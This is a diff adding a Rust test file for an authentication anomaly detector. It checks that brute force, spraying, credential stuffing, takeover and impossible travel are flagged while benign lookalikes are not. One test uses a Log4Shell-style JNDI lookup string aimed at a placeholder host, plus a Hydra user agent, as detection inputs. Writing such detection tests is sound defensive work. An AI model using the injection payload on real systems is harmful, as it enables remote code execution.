@@ -1,0 +1,248 @@
+//! Each attack beside the piece of ordinary life that it resembles, and bodies that make no sense.
+
+use super::*;
+use crate::{inference, patrols, score::score_rows};
+use serde_json::Map;
+
+const START: i64 = 1_772_438_400;
+const CHROME: &str =
+    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/126.0 Safari/537.36";
+
+fn body(value: Value) -> Fields {
+    Fields(value.as_object().cloned().unwrap_or_default())
+}
+
+/// The verdicts on bodies, in order.
+fn scored(bodies: Vec<Value>) -> Vec<Map<String, Value>> {
+    let (config, inference) = (patrols::Config::default(), inference::Config::default());
+    let rows = bodies.into_iter().map(body);
+    let scored = score_rows("auth-sentry", &config, &inference, rows).unwrap();
+    scored.map(|row| row["scored"].as_object().cloned().unwrap()).collect()
+}
+
+fn flagged(verdict: &Map<String, Value>) -> bool {
+    verdict.get("score").and_then(Value::as_f64).is_some_and(|score| score >= 0.5)
+}
+
+fn categories(verdicts: &[Map<String, Value>]) -> Vec<&str> {
+    let flagged = verdicts.iter().filter(|verdict| flagged(verdict));
+    flagged.filter_map(|verdict| verdict["category"].as_str()).collect()
+}
+
+/// A login on a portal that tells agent and place.
+fn portal(at: i64, user: &str, from: &str, good: bool, agent: &str, place: (f64, f64)) -> Value {
+    json!({
+        "ts": START + at, "event": "login", "outcome": if good { "success" } else { "failure" },
+        "user": user, "src_ip": from, "host": "portal", "user_agent": agent,
+        "lat": place.0, "lon": place.1,
+    })
+}
+
+const BERLIN: (f64, f64) = (52.5, 13.4);
+const TOKYO: (f64, f64) = (35.7, 139.7);
+const HOME: &str = "84.17.3.9";
+
+/// A fortnight of Ann's working days at home: three logins each.
+fn past() -> Vec<Value> {
+    let days = (0..14i64).filter(|day| day % 7 < 5);
+    let at = days.flat_map(|day| [0, 9_000, 21_000].map(|s| day * 86_400 + 28_800 + s + day * 97));
+    at.map(|at| portal(at, "ann", HOME, true, CHROME, BERLIN)).collect()
+}
+
+/// Monday after [`past`], at nine.
+const NOW: i64 = 14 * 86_400 + 32_400;
+
+/// The verdicts on what follows Ann's past.
+fn after_past(bodies: Vec<Value>) -> Vec<Map<String, Value>> {
+    let past = past();
+    let known = past.len();
+    let mut all = scored(past.into_iter().chain(bodies).collect());
+    assert!(!all.iter().take(known).any(flagged), "Ann's past is flagged");
+    all.split_off(known)
+}
+
+#[test]
+fn guessing_is_flagged_within_five_failures_and_typing_errors_are_not() {
+    let guess = |n: i64| {
+        json!({"ts": START + n * 3, "event": "failed_password", "user": "root",
+               "src_ip": "203.0.113.9", "host": "web-1", "session": format!("sshd[{n}]")})
+    };
+    let attack = scored((0..8).map(guess).collect());
+    assert!(attack.iter().take(5).any(flagged), "{attack:?}");
+    assert!(categories(&attack).contains(&"brute_force"), "{:?}", categories(&attack));
+    let reasons = attack[7]["reasons"].to_string();
+    assert!(reasons.contains("failures of this address in a day"), "{reasons}");
+    let typing = [(0, false), (7, false), (19, false), (31, true)];
+    let typing = typing.map(|(at, good)| portal(NOW + at, "ann", HOME, good, CHROME, BERLIN));
+    assert!(!after_past(typing.to_vec()).iter().any(flagged));
+}
+
+#[test]
+fn slow_guessing_is_flagged_and_a_client_with_an_old_password_is_not() {
+    let guess = |n: i64| portal(n * 600, "carl", "203.0.113.9", false, CHROME, TOKYO);
+    let attack = scored((0..12).map(guess).collect());
+    assert!(attack.iter().any(flagged));
+    let retry = |n: i64| portal(NOW + n * 300, "ann", HOME, false, CHROME, BERLIN);
+    let retries = after_past((0..20).map(retry).collect());
+    assert!(!retries.iter().any(flagged), "{retries:?}");
+}
+
+#[test]
+fn a_spray_is_flagged_and_an_office_at_nine_is_not() {
+    let spray = |n: i64| portal(n * 30, &format!("p{n}"), "203.0.113.9", false, CHROME, TOKYO);
+    let attack = scored((0..15).map(spray).collect());
+    assert!(categories(&attack).contains(&"password_spraying"), "{:?}", categories(&attack));
+    let mut office = Vec::new();
+    for day in 0..5 {
+        for n in 0..20 {
+            let (at, user) = (day * 86_400 + 28_800 + n * 11, format!("p{n}"));
+            if (n + day) % 9 == 0 {
+                office.push(portal(at - 8, &user, "84.17.3.1", false, CHROME, BERLIN));
+            }
+            office.push(portal(at, &user, "84.17.3.1", true, CHROME, BERLIN));
+        }
+    }
+    office.sort_by_key(|body| body["ts"].as_i64());
+    let verdicts = scored(office);
+    assert!(!verdicts.iter().any(flagged), "{:?}", categories(&verdicts));
+}
+
+#[test]
+fn many_addresses_after_one_account_are_flagged_and_a_roaming_telephone_is_not() {
+    let botnet = |n: i64| {
+        let from = format!("{}.{}.7.9", 31 + n * 7, 90 + n);
+        portal(NOW + n * 120, "ann", &from, false, CHROME, TOKYO)
+    };
+    let attack = after_past((0..16).map(botnet).collect());
+    assert!(categories(&attack).contains(&"password_spraying"), "{:?}", categories(&attack));
+    let roaming = |n: i64| {
+        let from = format!("109.40.{}.{}", 10 + n % 3, 17 + n * 11);
+        portal(NOW + n * 5_000, "ann", &from, true, CHROME, BERLIN)
+    };
+    assert!(!after_past((0..12).map(roaming).collect()).iter().any(flagged));
+}
+
+#[test]
+fn a_leaked_list_is_flagged_and_named() {
+    let agent = "python-requests/2.31";
+    let stuff = |n: i64| {
+        let user = format!("someone{}", n * 7919 % 100_000);
+        portal(n * 2, &user, "203.0.113.9", n % 25 == 24, agent, TOKYO)
+    };
+    let attack = scored((0..60).map(stuff).collect());
+    assert!(categories(&attack).contains(&"credential_stuffing"), "{:?}", categories(&attack));
+}
+
+#[test]
+fn a_takeover_is_flagged_and_a_new_laptop_is_not() {
+    let (agent, from) = ("Mozilla/5.0 (X11; Linux x86_64; rv:115.0) Firefox/115.0", "203.0.113.9");
+    let tries = [(0, false), (15, false), (40, false), (71, false), (400, true)];
+    let tries = tries.map(|(at, good)| portal(NOW + at, "ann", from, good, agent, TOKYO));
+    let attack = after_past(tries.to_vec());
+    assert!(flagged(&attack[4]), "{:?}", attack[4]);
+    assert_eq!(attack[4]["category"], "account_takeover");
+    let techniques = attack[4]["techniques"].to_string();
+    assert!(techniques.contains("T1078"), "{techniques}");
+    let laptop = portal(NOW, "ann", HOME, true, agent, BERLIN);
+    assert!(!flagged(&after_past(vec![laptop])[0]));
+}
+
+#[test]
+fn two_places_at_once_are_flagged_and_a_flight_is_not() {
+    let agent = "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) Version/17 Safari/605.1";
+    let here = portal(NOW, "ann", HOME, true, CHROME, BERLIN);
+    let there = portal(NOW + 3_600, "ann", "203.0.113.9", true, agent, TOKYO);
+    let attack = after_past(vec![here.clone(), there]);
+    assert!(flagged(&attack[1]), "{:?}", attack[1]);
+    assert_eq!(attack[1]["category"], "impossible_travel");
+    let reasons = attack[1]["reasons"].to_string();
+    assert!(reasons.contains("km/h") && reasons.contains("network is new"), "{reasons}");
+    let landed = portal(NOW + 17 * 3_600, "ann", "203.0.113.9", true, CHROME, TOKYO);
+    assert!(!flagged(&after_past(vec![here, landed])[1]));
+}
+
+#[test]
+fn a_script_on_a_persons_account_is_flagged_and_a_service_is_not() {
+    let agent = "python-requests/2.31";
+    let bot = |n: i64| portal(NOW + n * 60, "ann", "203.0.113.9", true, agent, BERLIN);
+    let attack = after_past((0..40).map(bot).collect());
+    assert!(categories(&attack).contains(&"automated_login"), "{:?}", categories(&attack));
+    let service = |n: i64| portal(n * 900, "svc.sync", "10.0.4.9", true, agent, BERLIN);
+    assert!(!scored((0..60).map(service).collect()).iter().any(flagged));
+}
+
+#[test]
+fn a_gate_without_accounts_and_an_account_without_address_are_both_judged() {
+    let local = |n: i64| {
+        json!({"ts": START + n, "event": "su_failed", "actor": "bob", "target_user": "root"})
+    };
+    let verdicts = scored((0..3).map(local).collect());
+    assert!(verdicts.iter().all(|verdict| verdict.get("error").is_none()));
+    let nobody = scored(vec![json!({"ts": START, "event": "other", "host": "web-1"})]);
+    assert_eq!(nobody[0]["level"], "none");
+}
+
+#[test]
+fn bad_bodies_are_refused_or_read_as_far_as_they_go() {
+    let long = "x".repeat(10_000_000);
+    let bodies = vec![
+        json!({"ts": START}),
+        json!({"ts": START, "event": 7}),
+        json!({"ts": "yesterday", "event": "login"}),
+        json!({"ts": START, "event": "login", "outcome": ["x"], "user": {}, "src_ip": []}),
+        json!({"ts": START, "event": "login", "outcome": "failure", "lat": "NaN", "lon": 1e308,
+               "repeated": -5, "user": 7, "src_ip": "not an address", "session": 1.5}),
+        json!({"ts": 1, "event": "login", "outcome": "failure", "user": 7, "src_ip": "::::"}),
+        json!({"ts": START, "event": long, "user": long, "src_ip": long, "user_agent": long}),
+    ];
+    let verdicts = scored(bodies);
+    let refused: Vec<bool> = verdicts.iter().map(|v| v.contains_key("error")).collect();
+    assert_eq!(refused, [true, true, true, false, false, false, false], "{verdicts:?}");
+}
+
+#[test]
+fn annotations_change_nothing() {
+    let plain = past();
+    let labelled = plain.iter().enumerate().map(|(n, body)| {
+        let mut body = body.clone();
+        for name in crate::body::ANNOTATIONS {
+            body[*name] = json!(["brute_force", "cowrie.login.failed", "1"][n % 3]);
+        }
+        body
+    });
+    assert_eq!(scored(labelled.collect()), scored(plain));
+}
+
+#[test]
+fn a_repeated_event_is_not_learnt_twice_and_secrets_are_not_quoted() {
+    let mut sentry = maker(&Config::default())(Some(Class::Client));
+    let body = body(json!({"event": "login_failed", "user": "ann", "src_ip": "203.0.113.9",
+                           "password": "hunter2"}));
+    let ts = magsentinel_bus_schema::Timestamp::from_micros(START * 1_000_000);
+    let mut of = |repeated| {
+        let mut rows = Rows::new(Input::Values(WIDTH));
+        let seen = Seen { body: &body, ts, ts_refused: false, repeated };
+        sentry.features(&seen, &mut rows).unwrap();
+        let Row::Values(row) = rows.row(0) else { return Vec::new() };
+        row.to_vec()
+    };
+    of(false);
+    let (again, once_more) = (of(true), of(true));
+    assert_eq!(again, once_more);
+    assert_eq!(sentry.report()["keys"], 1);
+    let excerpt = sentry.excerpt(&body, 200);
+    assert!(excerpt.contains("ann") && !excerpt.contains("hunter2"), "{excerpt}");
+}
+
+#[test]
+fn patterns_name_what_needs_no_past() {
+    let at = |value: Value| scored(vec![value]).remove(0);
+    let tool = at(json!({"ts": START, "event": "login", "outcome": "failure", "user": "ann",
+                         "src_ip": "203.0.113.9", "user_agent": "Hydra/9.5"}));
+    assert_eq!((&tool["level"], &tool["category"]), (&json!("high"), &json!("brute_force")));
+    let code = at(json!({"ts": START, "event": "login_failed", "src_ip": "203.0.113.9",
+                         "user": "${jndi:ldap://203.0.113.9/a}"}));
+    assert_eq!(code["category"], "injection");
+    let reverse = at(json!({"ts": START, "event": "break_in_attempt", "src_ip": "203.0.113.9"}));
+    assert_eq!((&reverse["level"], &reverse["category"]), (&json!("low"), &json!("recon")));
+}
